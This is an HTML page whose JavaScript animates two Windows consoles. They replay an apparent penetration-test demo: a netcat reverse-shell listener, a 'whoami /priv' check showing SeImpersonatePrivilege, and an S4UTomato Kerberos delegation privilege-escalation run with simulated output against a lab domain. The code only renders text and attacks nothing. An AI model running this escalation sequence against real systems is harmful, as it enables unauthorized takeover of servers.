
An HTML page that plays this animation: 944 by 593 pixels, repeating every 8000 ms.

```html
<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Two console windows</title>
<style>
html, body { margin: 0; width: 100%; height: 100%; overflow: hidden; }
#stage {
  position: relative; width: 944px; height: 593px; overflow: hidden;
  background:
    radial-gradient(ellipse 250px 210px at 940px 325px, #0068ffee, #0064fa99 45%, #0060f000),
    radial-gradient(ellipse 420px 330px at 60px 560px, #00beff, #00beff00),
    linear-gradient(97deg, #0099f2 0%, #009cf4 22%, #0086e8 50%, #0072e0 66%, #0057cd 84%, #0047b9 100%);
}
#stage > svg, .win, .win > *, #caret { position: absolute; left: 0; top: 0; }
.win { width: 650.5px; height: 339.3px; background: #0c0c0c; color: #999; box-shadow: 0 0 0 .8px #4a5a6a99; }
.win.active { color: #000; box-shadow: 0 0 0 1px #1c2c3ccc; }
.win svg { overflow: visible; }
.win text { font: 7.7px "Open Sans", "Noto Sans", sans-serif; white-space: pre; fill: currentColor; text-rendering: geometricPrecision; }
.win pre {
  top: 19.6px; margin: 0; height: 320px; color: #ccc; white-space: pre;
  font: 8.88px/10.664px "Noto Sans Mono", "DejaVu Sans Mono", monospace;
  font-variant-ligatures: none; text-rendering: geometricPrecision;
}
#caret { width: 5.33px; height: 2.7px; background: #f2f2f2; }
</style>
</head>
<body>
<div id="stage">
  <svg width="944" height="593">
    <path d="M683 194L944 262V330L683 216Z" fill="#28f" opacity=".14"/>
    <path d="M0 0H330L33 120 0 130Z" fill="#06d" opacity=".1"/>
    <path d="M0 566L257 536H700L944 593H0Z" fill="#07d" opacity=".14"/>
  </svg>
  <div id="back" class="win"></div>
  <div id="front" class="win"></div>
  <svg id="pointer" width="944" height="593" fill="#fff" stroke="#000" stroke-width=".7">
    <path id="arrow" d="M0 0V10.8L2.5 8.5 4.1 12 5.8 11.3 4.3 7.8H7.7Z"/>
    <path id="resize" d="M827.2 546.3L830.4 550H828V556.2H830.4L827.2 560 824 556.2H826.4V550H824Z"/>
  </svg>
</div>
<script>
const LOOP = 8000, CHAR = 5.328, ROW = 10.664, ROWS = 30, TOP = 19.6;
const $ = id => document.getElementById(id);

const banner = `Microsoft Windows [Version 10.0.20348.587]
(c) Microsoft Corporation. All rights reserved.

`;
const listen = port => String.raw`${banner}C:\Users\Julian>nc -lnvp ${port}
listening on [any] ${port} ...
`;
const prompt = String.raw`C:\inetpub\wwwroot>`;

const table = [
  ["Privilege Name", "Description", "State"],
  ["=".repeat(29), "=".repeat(41), "=".repeat(8)],
  ["SeAssignPrimaryTokenPrivilege", "Replace a process level token", "Disabled"],
  ["SeIncreaseQuotaPrivilege", "Adjust memory quotas for a process", "Disabled"],
  ["SeAuditPrivilege", "Generate security audits", "Disabled"],
  ["SeChangeNotifyPrivilege", "Bypass traverse checking", "Enabled"],
  ["SeImpersonatePrivilege", "Impersonate a client after authentication", "Enabled"],
  ["SeCreateGlobalPrivilege", "Create global objects", "Enabled"],
  ["SeIncreaseWorkingSetPrivilege", "Increase a process working set", "Disabled"]
].map(([name, text, state]) => name.padEnd(30) + text.padEnd(42) + state).join("\n");

const report = String.raw`[*] Action: Request Fake Delegation TGT (current user)
[*] No target SPN specified, attempting to build 'cifs/dc.domain.com'
[*] Initializing Kerberos GSS-API w/ fake delegation for target 'cifs/DC01.pentest.com'
[*] Kerberos GSS-API initialization success!
[*] Delegation requset success! AP-REQ delegation ticket is now in GSS-API output.
[*] Found the AP-REQ delegation ticket in the GSS-API output.
[*] Authenticator etype: aes256_cts_hmac_sha1
[*] Extracted the service ticket session key from the ticket cache: 9fE2qWSZKNlpBGHLX5AY0rFAcPEaqb28HKVwp5OPlnI=
[*] Successfully decrypted the authenticator
[*] Building S4U2self request for: 'WIN-IISSERVER$@PENTEST.COM'
[*] Using domain controller: DC01.pentest.com (172.22.10.11)
[*] Sending S4U2self request to 172.22.10.11:88
[+] S4U2self success!
[*] Substituting alternative service name 'HOST/WIN-IISSERVER'
[*] Got a TGS for 'pentest.com\Administrator' to 'HOST@PENTEST.COM'
[+] Ticket successfully imported!
[*] Run the krbscm method for SYSTEM shell
`.split(/(?<=\n)/);

const type = (start, gap, ...keys) => keys.map((key, i) => [start + i * gap, key]);

// Text appended to the console, by time
const output = [
  [0, listen(2333) + "connect to [127.0.0.1] from (UNKNOWN) [127.0.0.1] 55011\n" + banner + prompt],
  ...type(710, 97, "w", "h", "oa", "m", "i"),
  [1380, "\nwhoami\niis apppool\\defaultapppool\n\n" + prompt],
  ...type(1770, 78, ..."whoami "),
  [2580, "/"], [2980, "p"], [3130, "r"], [3210, "i"], [3400, "v"],
  [3590, `\nwhoami /priv\n\nPRIVILEGES INFORMATION\n${"-".repeat(22)}\n\n${table}\n\n${prompt}`],
  [6390, "S4UTomato.exe "], [6450, "tgtdeleg"],
  [7480, "\nS4UTomato.exe tgtdeleg\n"],
  [7660, report.slice(0, 8).join("")],
  [7740, report.slice(8).join("")],
  [7810, "\n" + prompt]
];
const scrolls = [[0, 0], [4460, 6], [4530, 12], [4860, 15], [4930, 18], [5010, 21], [5190, 24]];
const carets = [
  [0, 0], [230, 1], [1250, 0], [1380, 1], [2320, 0], [2580, 1], [2840, 0], [2980, 1],
  [3490, 0], [3590, 1], [5520, 0], [6050, 1], [7050, 0], [7390, 1]
];
const pointers = [[0, null], [70, [754, 519]], [150, [622, 460]], [230, [534, 417.6]]];
const at = (track, t) => track.findLast(([start]) => start <= t)[1];

function build(id, x, y, port) {
  const win = $(id);
  win.style.left = x + "px";
  win.style.top = y + "px";
  win.innerHTML = `<svg width="651" height="340" fill="none">
    <path d="M0 0H650.5V${TOP}H0Z" fill="#fff"/>
    <path d="M639 ${TOP}H650.5V339.3H639Z" fill="#f0f0f0"/>
    <rect x="6" y="5" width="10" height="8.4" fill="#111"/>
    <text x="20" y="12.3">C:\\Windows\\system32\\cmd.exe - nc  -lnvp ${port}</text>
    <path d="M571 9.5H577.6M601.5 6.5H607.5V12.5H601.5ZM631.7 6L638.3 12.6M638.3 6L631.7 12.6"
      stroke="currentColor" stroke-width=".8"/>
    <path d="M642.4 27L644.7 24.7 647 27M642.4 331.8L644.7 334.1 647 331.8" stroke="#333" stroke-width="1.3"/>
    <rect class="thumb" x="639.6" y="31" width="10.2" height="11" fill="#cdcdcd"/>
  </svg><pre></pre>`;
  return win;
}

build("back", 33, 39, 4444).querySelector("pre").textContent = listen(4444);
const front = build("front", 257, 217, 2333);
const screen = front.querySelector("pre"), thumb = front.querySelector(".thumb");
const caret = document.createElement("div");
caret.id = "caret";
front.append(caret);

function draw(now) {
  const t = now % LOOP;
  const lines = output.filter(([start]) => start <= t).map(([, text]) => text).join("").split("\n");
  const scroll = at(scrolls, t);
  const shown = lines.slice(scroll, scroll + ROWS).join("\n");
  if (screen.textContent !== shown) screen.textContent = shown;
  thumb.setAttribute("y", 31 + scroll * .05);

  caret.style.visibility = at(carets, t) ? "visible" : "hidden";
  caret.style.left = lines.at(-1).length * CHAR + "px";
  caret.style.top = TOP + (lines.length - scroll) * ROW - 2.9 + "px";

  front.classList.toggle("active", t >= 230);
  const spot = at(pointers, t);
  $("resize").style.display = spot ? "none" : "";
  $("arrow").style.display = spot ? "" : "none";
  if (spot) $("arrow").setAttribute("transform", `translate(${spot})`);
  requestAnimationFrame(draw);
}
draw(performance.now());
</script>
</body>
</html>
```
